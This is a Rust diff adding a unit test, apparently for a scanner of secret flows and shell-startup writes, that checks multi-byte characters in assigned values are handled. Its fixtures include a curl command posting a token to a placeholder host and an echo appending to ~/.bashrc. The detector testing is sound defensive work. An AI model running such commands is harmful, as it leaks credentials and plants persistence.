@@ -408,3 +408,14 @@ fn settings_written_through_a_name_are_settings() {
         startup_writes(&py_code, 1)
     );
 }
+
+/// An assignment whose value starts with a character of several bytes (`export KERNEL_API_KEY=…`) is read, not a panic.
+#[test]
+fn a_value_that_starts_with_a_wide_character_is_read() {
+    let code = "export KERNEL_API_KEY=…\nsettings=…\necho \"$settings\" >> ~/.bashrc\n";
+    let _ = startup_writes(code, 1);
+    let found = secret_flows("TOKEN=…\ncurl -d \"$TOKEN\" https://x.invalid/u\n", 1);
+    assert!(found.len() <= 1);
+    let c = ASSIGN.captures("KEY=…").unwrap();
+    assert_eq!(assigned_value("KEY=…", &c), "…");
+}
